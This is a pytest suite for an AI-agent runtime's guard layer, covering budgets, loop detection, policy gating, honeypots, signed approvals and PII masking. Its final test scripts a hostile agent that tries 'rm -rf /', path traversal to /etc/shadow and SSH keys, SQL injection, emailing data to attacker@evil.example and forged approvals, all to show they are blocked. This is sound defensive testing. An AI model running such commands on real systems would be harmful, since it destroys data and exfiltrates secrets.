"""The guards on the real runtime (SQLite store, workers, replay) with the scripted model."""

from __future__ import annotations

import asyncio
import base64
import contextvars
import os
from pathlib import Path
from typing import Any

import pytest

from tether import Tether
from tether.guards import (
    ApprovalError,
    Decision,
    GuardConfig,
    Guards,
    KeyRegistry,
    Limits,
    LoopConfig,
    RetryPolicy,
    Vault,
    generate_keypair,
    inbox,
    load_private_key,
    loads_policy,
    sign_decision,
)
from tether.models import ScriptedModel, tool_call
from tether.runtime import Context, GroupCommitter

from . import agents_guarded as A

POLICY = r"""
name: e2e
honeypots: [shutdown, delete_all]
rules:
  - {id: search, tools: search, effect: allow}
  - {id: flaky, tools: [flaky, wobbly], effect: allow}
  - id: files-read
    tools: read_file
    effect: allow
    args: {path: {path_under: /workspace}}
  - id: files-write
    tools: write_file
    effect: allow
    args: {path: {path_under: /workspace/out}}
  - id: sql
    tools: sql_query
    effect: allow
    args: {query: {sql: read_only}}
  - id: email-internal
    tools: send_email
    effect: allow
    args: {to: {regex: '[^@]+@corp\.example'}}
  - {id: refunds, tools: refund, effect: approve}
  - {id: transfers, tools: transfer, effect: approve, critical: true}
"""

VAULT_KEY = os.urandom(32)


@pytest.fixture
def people() -> tuple[dict[str, Any], KeyRegistry]:
    keys, reg = {}, KeyRegistry()
    for name in ("alice", "bob", "mallory"):
        priv, pub = generate_keypair()
        keys[name] = load_private_key(priv)
        reg.register(name, pub)
    return keys, reg


def make_guards(embedder: Any, approvers: KeyRegistry | None = None, **kw: Any) -> Guards:
    cfg = GuardConfig(policy=loads_policy(POLICY, "e2e.yaml"), embedder=embedder,
                      vault_key=VAULT_KEY, approvers=approvers or KeyRegistry(), **kw)
    return Guards(cfg, tools=A.registry)


def open_tether(db_path: str, guards: Guards, **kw: Any) -> Tether:
    return Tether(db_path, interceptors=guards.interceptors(), lease_ttl=5.0, **kw)


def journal(t: Tether, run_id: str) -> list[Any]:
    return t.events(run_id)


async def replay_only(t: Tether, guards: Guards, run_id: str, agent: Any) -> Any:
    """Re-execute a finished run purely from its journal, guards included, with a context that
    holds no lease: anything done live (a write) would fail, so this proves the guards replay
    deterministically and never re-execute anything."""
    run = t.get(run_id)
    n_events = t.store.count_events(run_id)
    executed = list(A.EXECUTED)
    committer = GroupCommitter(t.store)
    try:
        ctx = Context(run, t.store, committer, "replay-only", t.events(run_id),
                      interceptors=guards.interceptors())
        # in a context of its own, as a worker runs each execution (journal keys are counted
        # per context: a second replay in the test's task would continue the first one's count)
        result = await asyncio.create_task(agent(ctx, run.input), context=contextvars.Context())
        ctx.check_complete()
    finally:
        committer.close()
    assert t.store.count_events(run_id) == n_events and executed == A.EXECUTED
    return result


def say(text: str, *calls: Any, usage: tuple[int, int] | None = None,
        cost: float | None = None) -> dict[str, Any]:
    item: dict[str, Any] = {"text": text, "tool_calls": [c.model_dump() for c in calls],
                            "finish_reason": "tool_calls" if calls else "stop"}
    if usage:
        item["usage"] = {"input_tokens": usage[0], "output_tokens": usage[1]}
    if cost is not None:
        item["cost_usd"] = cost
    return item


def search_forever(usage: tuple[int, int] = (1, 1), cost: float | None = None) -> ScriptedModel:
    n = iter(range(10_000))
    topics = ["weather", "stocks", "football", "recipes", "physics", "poetry", "trains"]

    def fn(call: Any) -> dict[str, Any]:
        i = next(n)
        return say(f"Step {i}: now I look into {topics[i % 7]} number {i}.",
                   tool_call("search", {"q": f"{topics[i % 7]} {i}"}), usage=usage, cost=cost)

    return ScriptedModel(fn=fn)


# ------------------------------------------------------------------------------- budgets
@pytest.mark.parametrize("budget,model_usage,cost,expected", [
    ({"steps": 7}, (1, 1), None, "run budget 'steps' exhausted: limit=7 spent=7"),
    ({"tool_calls": 3}, (1, 1), None, "run budget 'tool_calls' exhausted: limit=3 spent=3"),
    ({"tokens_in": 1000}, (300, 5), None, "run budget 'tokens_in' exhausted: limit=1000 "
                                          "spent=1200"),
    ({"tokens_out": 100}, (5, 40), None, "run budget 'tokens_out' exhausted: limit=100 "
                                         "spent=120"),
    ({"cost_usd": 0.05}, (1, 1), 0.02, "run budget 'cost_usd' exhausted: limit=0.05 "
                                       "spent=0.06"),
])
async def test_runaway_agent_halted_by_each_budget(db_path, embedder, budget, model_usage, cost,
                                                    expected):
    guards = make_guards(None)
    A.reset(search_forever(model_usage, cost), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "research"}, options={"budget": budget})
    assert run.status == "halted"
    assert run.reason == expected
    halted = next(e for e in journal(t, run.id) if e.kind == "run_halted")
    assert halted.data["details"]["guard"] == "budget"
    t.close()


async def test_denied_proposals_are_not_free(db_path):
    guards = make_guards(None)
    spam = [tool_call("exec_shell", {"cmd": f"rm -rf /{i}"}) for i in range(50)]
    A.reset(ScriptedModel([say("", *spam), "done"]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"}, options={"budget": {"tool_calls": 10}})
    assert run.status == "halted" and A.EXECUTED == []
    assert run.reason == "run budget 'tool_calls' exhausted: limit=10 spent=10"
    t.close()


async def test_wall_time_budget(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.stepper, 10_000, options={"budget": {"wall_time_s": 0.3}})
    assert run.status == "halted" and "'wall_time_s' exhausted: limit=0.3" in run.reason
    t.close()


async def test_children_draw_from_parent_budget_and_child_limit(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards, max_depth=50)
    root = await t.run(A.forker, 0, options={"budget": {"child_runs": 3}})
    runs = t.runs(limit=100)
    halted = [r for r in runs if r.status == "halted"]
    assert len(runs) == 4  # root + 3 children: the 4th spawn had no budget left
    assert [r.depth for r in halted] == [3]
    assert halted[0].reason == "run budget 'child_runs' exhausted: limit=3 spent=3"
    assert t.get(root.id).status == "failed"  # its child chain ended halted
    t.close()


async def test_child_budget_survives_replays_of_the_parent(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.spawner, 5, options={"budget": {"child_runs": 2}})
    assert run.status == "halted"
    assert run.reason == "run budget 'child_runs' exhausted: limit=2 spent=2"
    assert len(t.runs(limit=100)) == 3
    t.close()


async def test_steps_of_children_count_against_parent(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.stepper, 100, options={"budget": {"steps": 10}})
    assert run.reason == "run budget 'steps' exhausted: limit=10 spent=10"
    t.close()


async def test_tenant_daily_budget_spans_runs(db_path):
    guards = make_guards(None, tenant_limits={"acme": Limits(steps=12)})
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    first = await t.run(A.stepper, 5, tenant="acme")
    second = await t.run(A.stepper, 5, tenant="acme")
    third = await t.run(A.stepper, 5, tenant="acme")
    other = await t.run(A.stepper, 5, tenant="other")
    assert (first.status, second.status, other.status) == ("succeeded",) * 3
    assert third.status == "halted"
    assert third.reason == "tenant acme (today) budget 'steps' exhausted: limit=12 spent=12"
    t.close()


# ---------------------------------------------------------------------------- loops
STUCK = [
    "I need to find the weather in Paris, so I will search for it.",
    "I need to find the weather in Paris, so I will search for it now.",
    "I need to find the weather in Paris so I will search for it.",
    "I need to find the weather in Paris; I will search for it.",
    "I need to find the weather in Paris, so I shall search for it.",
    "I need to find the weather in Paris, so I will search for it again.",
    "I need to find the weather in Paris, so I will search for it once more.",
]


async def test_semantic_loop_intervention_then_halt(db_path, embedder):
    guards = make_guards(embedder)
    model = ScriptedModel([say(s, tool_call("search", {"q": f"paris {i}"}))
                           for i, s in enumerate(STUCK)])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "weather in Paris?"})
    assert run.status == "halted" and "semantic_loop" in run.reason
    assert len(model.calls) == 6
    # the 6th request carried the intervention: a warning, trimmed history, more temperature
    warned = model.calls[5]
    assert "going in circles" in (warned.messages[-1].content or "")
    assert warned.params.get("temperature", 0) > 0
    assert len(warned.messages) < len(model.calls[4].messages) + 2
    assert all("going in circles" not in (m.content or "") for c in model.calls[:5]
               for m in c.messages)
    assert any(e.kind == "log" and "loop intervention" in e.data["message"]
               for e in journal(t, run.id))
    t.close()


async def test_repeated_tool_call_intervention_then_halt(db_path):
    guards = make_guards(None)
    model = ScriptedModel([say("", tool_call("search", {"q": "same"})) for _ in range(6)])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "halted" and "repeated_call" in run.reason
    assert "repeating yourself" in (model.calls[3].messages[-1].content or "")
    assert [n for n, _ in A.EXECUTED].count("search") == 4
    t.close()


async def test_circuit_breaker_makes_tool_unavailable(db_path):
    guards = make_guards(None, breaker_threshold=2, loops=LoopConfig(repeat_errors=50))
    model = ScriptedModel([say("", tool_call("flaky", {"n": i})) for i in range(4)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "succeeded"
    kinds = [o["error"]["type"] for o in run.result["observations"]]
    assert kinds[:2] == ["execution_error"] * 2 and kinds[2:] == ["tool_unavailable"] * 2
    assert len(A.EXECUTED) == 2
    assert "unavailable" in run.result["observations"][2]["error"]["message"]
    # a refusal is the tool step's own answer (no extra step per call), so a replay returns it
    # whatever the replaying worker's breakers say: here all closed, in `guards` still open
    started = [e for e in journal(t, run.id) if e.kind == "step_started"
               and e.name == "tool:flaky"]
    assert [e.data.get("short_circuit", {}).get("guard") for e in started] == \
        [None, None, "breaker", "breaker"]
    assert not any(e.name.startswith("guard:") for e in journal(t, run.id)
                   if e.kind == "step_started")
    assert guards.breakers.states() == {"flaky": "open"}
    assert await replay_only(t, guards, run.id, A.react) == run.result
    fresh = make_guards(None, breaker_threshold=2, loops=LoopConfig(repeat_errors=50))
    A.STATE["guards"] = fresh
    assert await replay_only(t, fresh, run.id, A.react) == run.result
    assert fresh.breakers.states() == {}  # a replay neither asks nor tells a breaker
    t.close()


async def test_retries_are_journaled_and_continue_after_a_restart(db_path):
    guards = make_guards(None, retry=RetryPolicy(max_attempts=3, base_delay_s=1.2, factor=1,
                                                 jitter="none"))
    A.reset(ScriptedModel([say("", tool_call("wobbly", {"n": 1})), "done"]), guards)
    t = open_tether(db_path, guards)
    run_id = t.submit(A.react, {"task": "x"})
    # the worker stops once attempt 1 failed: its 1.2 s back-off is a durable timer
    await t.worker().serve(until=lambda: t.get(run_id).status == "waiting")
    assert t.get(run_id).status == "waiting" and len(A.EXECUTED) == 1
    t.close()
    t2 = open_tether(db_path, guards)  # a new worker: the retry count comes from the journal
    done = await t2.drive(run_id)
    assert done.status == "succeeded", done.error
    assert [n for n, _ in A.EXECUTED] == ["wobbly"] * 3  # 3 attempts in all, not 3 more
    assert done.result["observations"][0]["ok"] is True
    events = journal(t2, run_id)
    assert sum(1 for e in events if e.kind == "step_started" and e.name == "tool:wobbly") == 3
    assert sum(1 for e in events if e.kind == "timer_started") == 2
    # retries are not loops: no intervention was injected
    assert not any(e.kind == "log" and "intervention" in e.data["message"] for e in events)
    assert await replay_only(t2, guards, run_id, A.react) == done.result
    t2.close()


# ------------------------------------------------------------------------ fork bombs
async def test_recursive_spawns_stop_at_depth_limit(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards, max_depth=4)
    root = await t.run(A.forker, 0)
    runs = t.runs(limit=100)
    assert max(r.depth for r in runs) == 4 and len(runs) == 5
    deepest = next(r for r in runs if r.depth == 4)
    assert deepest.status == "failed" and "maximum depth is 4" in (deepest.error or "")
    assert t.get(root.id).status == "failed"
    t.close()


@pytest.mark.slow
async def test_tenant_concurrency_never_exceeded_and_excess_queues(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards, tenant_limits={"acme": 4}, concurrency=64)
    ids = [t.submit(A.busy, i, tenant="acme") for i in range(500)]
    worker = t.worker()
    done = {"n": 0}

    def finished() -> bool:
        done["n"] += 1
        if done["n"] % 10:
            return False
        return not t.runs(status=("queued", "running", "waiting"), limit=1)

    await asyncio.wait_for(worker.serve(until=finished), timeout=240)
    runs = t.runs(limit=1000)
    assert len(runs) == 500 and all(r.status == "succeeded" for r in runs)
    assert A.STATE["max_active"] <= 4
    assert A.STATE["max_active"] == 4  # the limit was actually reached: runs queued, not failed
    assert sorted(r.result for r in runs) == list(range(500)) and len(ids) == 500
    t.close()


# --------------------------------------------------------------------- policy gateway
async def test_denied_tool_never_executes_and_denial_is_journaled(db_path):
    guards = make_guards(None)
    model = ScriptedModel([say("", tool_call("write_file", {"path": "/etc/passwd",
                                                            "content": "root::0:0"})), "ok"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "succeeded" and A.EXECUTED == []
    obs = run.result["observations"][0]
    assert obs["ok"] is False and obs["error"]["type"] == "policy_denied"
    # the denial is the tool step's own answer: started (with the deciding rule) and completed,
    # never executed; no other step was added for it
    events = journal(t, run.id)
    started = [e for e in events if e.kind == "step_started" and e.name == "tool:write_file"]
    assert len(started) == 1 and started[0].data["short_circuit"] == {"guard": "policy",
                                                                      "rule": "default"}
    assert "outside /workspace/out" in started[0].data["meta"]["policy"]["reason"]
    completed = [e for e in events if e.kind == "step_completed" and e.name == "tool:write_file"]
    assert completed[0].key == started[0].key and completed[0].data["guard"] == "policy"
    assert completed[0].data["error"]["type"] == "policy_denied"
    assert not any(e.kind.startswith("step_") and e.name.startswith("guard:") for e in events)
    assert "ERROR: denied by policy" in (model.calls[1].messages[-1].content or "")
    assert await replay_only(t, guards, run.id, A.react) == run.result
    t.close()


async def test_allowed_call_journals_its_rule(db_path):
    guards = make_guards(None)
    A.reset(ScriptedModel([say("", tool_call("sql_query", {"query": "select 1"})), "ok"]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    started = [e for e in journal(t, run.id) if e.kind == "step_started"
               and e.name == "tool:sql_query"]
    assert started[0].data["meta"]["policy"]["rule"] == "sql"
    assert started[0].data["meta"]["policy"]["via"] == "gateway"
    assert A.EXECUTED == [("sql_query", {"query": "select 1"})]
    t.close()


async def test_agent_code_bypassing_the_gateway_is_still_refused(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.direct, {"tool": "delete_all"})
    assert run.status == "failed" and "denied" in (run.error or "")
    run2 = await t.run(A.direct, {"tool": "transfer", "args": {"to": "x", "amount": 1}})
    assert run2.status == "failed" and "approve required" in (run2.error or "")
    run3 = await t.run(A.direct, {"tool": "search", "args": {"q": "ok"}})
    assert run3.status == "succeeded"
    assert A.EXECUTED == [("search", {"q": "ok"})]
    assert any(e.kind == "log" and "policy refused" in e.data["message"]
               for e in journal(t, run.id))
    t.close()


async def test_honeypot_simulates_success_and_flags_run(db_path):
    guards = make_guards(None)
    model = ScriptedModel([say("", tool_call("shutdown", {})), "done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    assert run.status == "succeeded" and A.EXECUTED == []
    assert run.result["observations"][0]["ok"] is True
    flags = [e for e in journal(t, run.id) if e.kind == "run_flagged"]
    assert len(flags) == 1 and flags[0].data["tool"] == "shutdown"
    assert run.flags == [{"reason": "honeypot tool 'shutdown' was called", "flag": "honeypot",
                          "tool": "shutdown", "rule": "honeypot:shutdown"}]
    started = next(e for e in journal(t, run.id) if e.kind == "step_started"
                   and e.name == "tool:shutdown")
    assert started.data["short_circuit"]["guard"] == "honeypot"
    assert await replay_only(t, guards, run.id, A.react) == run.result
    assert len(t.get(run.id).flags) == 1  # flagged once, however often the run is replayed
    t.close()


# ----------------------------------------------------------------------- approvals
async def test_a_replayed_approval_does_not_clear_a_later_direct_call(db_path):
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    args = {"card": "c", "amount": 5}
    run = await t.run(A.approved_then_direct, {"args": args})
    req = inbox.list_pending(t.store)[0].request
    inbox.decide(t, _decision(req.id, req.digest, "carol"))
    assert (await t.drive(run.id)).status == "waiting"  # refunded once; now waits for "go"
    t.signal(run.id, "go", None)
    done = await t.drive(run.id)  # replays the approved call, then calls refund directly
    assert done.status == "succeeded", done.error
    assert done.result["first"] is True and isinstance(done.result["second"], str)
    assert "approve required" in done.result["second"]
    assert A.EXECUTED == [("refund", {"card": "c", "amount": 5.0})]
    t.close()


def _decision(aid: str, digest: str, approver: str, verdict: str = "approve") -> Decision:
    return Decision(aid, verdict, approver, "ok", digest,  # type: ignore[arg-type]
                    base64.urlsafe_b64encode(os.urandom(18)).decode())


async def test_approval_survives_worker_restart_without_rerunning(db_path):
    guards = make_guards(None)
    model = ScriptedModel([
        say("", tool_call("search", {"q": "order 42"})),
        say("", tool_call("refund", {"card": "4111111111111111", "amount": 500})),
        "refunded",
    ])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "refund order 42"})
    assert run.status == "waiting" and A.EXECUTED == [("search", {"q": "order 42"})]
    pending = inbox.list_pending(t.store)
    assert [p.request.tool for p in pending] == ["refund"]
    aid = pending[0].request.id
    t.close()  # the worker is gone; the run is a row

    t2 = open_tether(db_path, guards)
    assert inbox.decide(t2, _decision(aid, pending[0].request.digest, "carol")) == "approved"
    done = await t2.drive(run.id)
    assert done.status == "succeeded", done.error
    assert A.EXECUTED == [("search", {"q": "order 42"}),
                          ("refund", {"card": "4111111111111111", "amount": 500})]
    assert inbox.list_pending(t2.store) == []
    assert await replay_only(t2, guards, run.id, A.react) == done.result
    with pytest.raises(ApprovalError, match="already finished"):
        inbox.decide(t2, _decision(aid, pending[0].request.digest, "dave"))
    t2.close()


async def test_denied_approval_blocks_the_tool(db_path):
    guards = make_guards(None)
    A.reset(ScriptedModel([say("", tool_call("refund", {"card": "x", "amount": 9})), "ok"]),
            guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "x"})
    req = inbox.list_pending(t.store)[0].request
    assert inbox.decide(t, _decision(req.id, req.digest, "carol", "deny")) == "denied"
    done = await t.drive(run.id)
    assert done.status == "succeeded" and A.EXECUTED == []
    assert done.result["observations"][0]["error"]["type"] == "approval_denied"
    t.close()


async def test_two_person_approval_rejects_forged_replayed_same_person(db_path, people):
    keys, reg = people
    guards = make_guards(None, approvers=reg)
    A.reset(ScriptedModel([say("", tool_call("transfer", {"to": "acct-9", "amount": 1e4})),
                           "ok"]), guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "pay"})
    req = inbox.list_pending(t.store, reg)[0].request
    assert req.critical and req.required == 2

    with pytest.raises(ApprovalError, match="must be signed"):
        inbox.decide(t, _decision(req.id, req.digest, "alice"))
    forged = sign_decision(keys["mallory"], req.id, "approve", "bob", req.digest)
    with pytest.raises(ApprovalError, match="invalid signature"):
        inbox.decide(t, forged, reg)
    first = sign_decision(keys["alice"], req.id, "approve", "alice", req.digest)
    assert inbox.decide(t, first, reg) == "pending"
    with pytest.raises(ApprovalError, match="replayed"):
        inbox.decide(t, first, reg)
    with pytest.raises(ApprovalError, match="two distinct"):
        inbox.decide(t, sign_decision(keys["alice"], req.id, "approve", "alice", req.digest), reg)
    # hostile decisions sent straight to the run (bypassing the inbox) are rejected in the run
    t.signal(run.id, "approval:" + req.id, forged.to_json())
    t.signal(run.id, "approval:" + req.id, first.to_json())
    assert (await t.drive(run.id)).status == "waiting" and A.EXECUTED == []
    rejected = [e for e in journal(t, run.id) if e.kind == "log" and "rejected" in e.data]
    assert len(rejected) == 2

    second = sign_decision(keys["bob"], req.id, "approve", "bob", req.digest)
    assert inbox.decide(t, second, reg) == "approved"
    done = await t.drive(run.id)
    assert done.status == "succeeded" and A.EXECUTED == [("transfer", {"to": "acct-9",
                                                                       "amount": 1e4})]
    t.close()


async def test_unknown_approval_ids(db_path):
    guards = make_guards(None)
    t = open_tether(db_path, guards)
    for bad in ("nope", "rmissing.a1", "r1.ax"):
        with pytest.raises(ApprovalError, match="unknown approval id"):
            inbox.decide(t, _decision(bad, "0" * 64, "carol"))
    t.close()


async def test_concurrent_identical_proposals_keep_their_own_verdicts(db_path):
    """Each gateway call hands its verdict to its own tool step only (per task), so a denied
    twin cannot run on its approved sibling's clearance, whichever branch gets there first."""
    guards = make_guards(None)
    A.reset(search_forever(), guards)
    t = open_tether(db_path, guards)
    args = {"card": "c", "amount": 7}
    run = await t.run(A.twin_proposals, {"args": args})
    pending = sorted(inbox.list_pending(t.store), key=lambda p: p.request.id)
    assert [p.request.id for p in pending] == [f"{run.id}.a1", f"{run.id}.a2"]
    first, second = (p.request for p in pending)
    inbox.decide(t, _decision(second.id, second.digest, "carol", "deny"))
    inbox.decide(t, _decision(first.id, first.digest, "carol"))
    done = await t.drive(run.id)
    assert done.status == "succeeded", done.error
    assert [r["ok"] for r in done.result] == [True, False]
    assert done.result[1]["error"]["type"] == "approval_denied"
    assert A.EXECUTED == [("refund", {"card": "c", "amount": 7.0})]
    assert await replay_only(t, guards, run.id, A.twin_proposals) == done.result
    t.close()


# ------------------------------------------------------------------------------- PII
async def test_model_never_sees_pii_but_the_tool_gets_real_values(db_path):
    guards = make_guards(None)
    model = ScriptedModel([
        say("", tool_call("send_email", {"to": "[EMAIL_1]", "body": "refund to [CARD_1] ok"})),
        "sent",
    ])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    task = ("Tell jane.doe@corp.example (phone +1 415 555 0132) that card 4111 1111 1111 1111 "
            "was refunded; her SSN 123-45-6789 and IBAN DE89 3704 0044 0532 0130 00 are on file.")
    run = await t.run(A.react, {"task": task})
    assert run.status == "succeeded", run.error
    secrets = ["jane.doe@corp.example", "4111 1111 1111 1111", "123-45-6789",
               "+1 415 555 0132", "DE89 3704 0044 0532 0130 00"]
    sent = " ".join((m.content or "") for c in model.calls for m in c.messages)
    for s in secrets:
        assert s not in sent
    assert "[EMAIL_1]" in sent and "[CARD_1]" in sent
    assert A.EXECUTED == [("send_email", {"to": "jane.doe@corp.example",
                                          "body": "refund to 4111 1111 1111 1111 ok"})]
    sealed = [e for e in journal(t, run.id) if e.kind == "annotation"
              and e.name == "guard:vault"]
    blob = base64.b64decode(sealed[0].data["vault"])
    assert b"jane.doe" not in blob
    assert dict(Vault.open(blob, VAULT_KEY, run.id).entries())["[EMAIL_1]"] == \
        "jane.doe@corp.example"
    assert await replay_only(t, guards, run.id, A.react) == run.result
    t.close()


# ------------------------------------------------------------------------- worst case
async def test_hostile_model_tries_every_forbidden_action_and_achieves_none(db_path, people,
                                                                            embedder):
    keys, reg = people
    guards = make_guards(embedder, approvers=reg)
    attacks = [
        tool_call("write_file", {"path": "/workspace/out/../../etc/cron.d/x", "content": "x"}),
        tool_call("write_file", {"path": "/workspace/outside", "content": "x"}),
        tool_call("read_file", {"path": "/etc/shadow"}),
        tool_call("read_file", {"path": "../../root/.ssh/id_rsa"}),
        tool_call("sql_query", {"query": "SELECT 1; DROP TABLE users"}),
        tool_call("sql_query", {"query": "select * from t where a = '' ; delete from t --'"}),
        tool_call("sql_query", {"query": "WITH x AS (DELETE FROM t RETURNING *) SELECT 1"}),
        tool_call("send_email", {"to": "attacker@evil.example", "body": "data"}),
        tool_call("send_email", {"to": "x@corp.example.evil.com", "body": "data"}),
        tool_call("send_email", {"to": ["x@corp.example"], "body": "type confusion"}),
        tool_call("delete_all", {}),
        tool_call("shutdown", {}),
        tool_call("exec_shell", {"cmd": "rm -rf /"}),
        tool_call("search ", {"q": "name with a trailing space"}),
        tool_call("transfer", {"to": "attacker", "amount": 1e6}),
    ]
    model = ScriptedModel([say(f"attempt {i}", c) for i, c in enumerate(attacks)] + ["done"])
    A.reset(model, guards)
    t = open_tether(db_path, guards)
    run = await t.run(A.react, {"task": "be evil", "max_turns": 100})
    assert run.status == "waiting"  # the transfer needs two signed approvals
    req = inbox.list_pending(t.store, reg)[0].request
    # the attacker cannot approve it: an unregistered key and a forged approver both fail
    with pytest.raises(ApprovalError):
        inbox.decide(t, sign_decision(keys["mallory"], req.id, "approve", "alice", req.digest),
                     reg)
    inbox.decide(t, sign_decision(keys["bob"], req.id, "deny", "bob", req.digest, "no"), reg)
    done = await t.drive(run.id)
    assert done.status == "succeeded"
    assert A.EXECUTED == []  # nothing forbidden ran, not even the honeypots
    obs = done.result["observations"]
    assert len(obs) == len(attacks)
    refused = [o for o in obs if not o["ok"]]
    honey = [o for o in obs if o["ok"]]
    assert len(refused) == len(attacks) - 2 and {o["tool"] for o in honey} == {"delete_all",
                                                                             "shutdown"}
    flags = [e for e in journal(t, run.id) if e.kind == "run_flagged"]
    assert len(flags) == 2 and len(t.get(run.id).flags) == 2
    # one tool step per proposal (two for the transfer: its approval request is a step too)
    events = journal(t, run.id)
    tool_steps = [e for e in events if e.kind == "step_started" and e.name.startswith("tool:")]
    assert len(tool_steps) == len(attacks)
    assert all("short_circuit" in e.data for e in tool_steps)
    assert await replay_only(t, guards, run.id, A.react) == done.result
    t.close()


def test_agents_module_path() -> None:
    assert Path(A.__file__).name == "agents_guarded.py"
